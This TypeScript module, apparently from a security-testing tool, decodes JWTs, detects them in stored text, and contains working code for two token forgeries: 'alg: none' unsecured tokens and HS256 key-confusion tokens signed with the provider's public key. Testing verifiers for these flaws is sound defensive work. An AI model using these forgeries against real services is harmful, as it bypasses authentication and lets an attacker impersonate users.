import { createHmac, createPublicKey, type JsonWebKey } from 'node:crypto'

export interface DecodedJwt {
  header: Record<string, unknown>
  payload: Record<string, unknown>
}

const json = (part: string | undefined): Record<string, unknown> | undefined => {
  try {
    const value: unknown = JSON.parse(Buffer.from(part ?? '', 'base64url').toString('utf8'))
    return value !== null && typeof value === 'object' && !Array.isArray(value)
      ? (value as Record<string, unknown>)
      : undefined
  } catch {
    return undefined
  }
}

/** A JWS in compact form (RFC 7515 §7.1) whose header names an `alg`, decoded without checking. */
export function decodeJwt(value: string | undefined): DecodedJwt | undefined {
  const parts = value?.split('.')
  if (parts?.length !== 3) return undefined
  const header = json(parts[0])
  const payload = json(parts[1])
  return header && typeof header.alg === 'string' && payload ? { header, payload } : undefined
}

/** Whether a string holds a JWT anywhere in it (web storage values are often JSON). */
export const containsJwt = (text: string) =>
  /eyJ[\w-]{8,}\.eyJ[\w-]{8,}\.[\w-]*/.test(text) &&
  (text.match(/eyJ[\w-]{8,}\.eyJ[\w-]{8,}\.[\w-]*/g) ?? []).some((t) => decodeJwt(t) !== undefined)

const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')

/** RFC 7519 §6: an unsecured JWT, the claims of a real token under `alg: none`. */
export const unsecured = (token: DecodedJwt) =>
  `${b64({ ...token.header, alg: 'none', kid: undefined })}.${b64(token.payload)}.`

/**
 * The key-confusion forgery (RFC 8725 §2.1, §3.1): the same claims under HS256, keyed with the
 * IdP's *public* key as a verifier that trusts the token's `alg` would hold it (PEM text).
 */
export function hmacWithPublicKey(token: DecodedJwt, jwk: JsonWebKey): string {
  const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' })
  const input = `${b64({ ...token.header, alg: 'HS256' })}.${b64(token.payload)}`
  return `${input}.${createHmac('sha256', pem).update(input).digest('base64url')}`
}
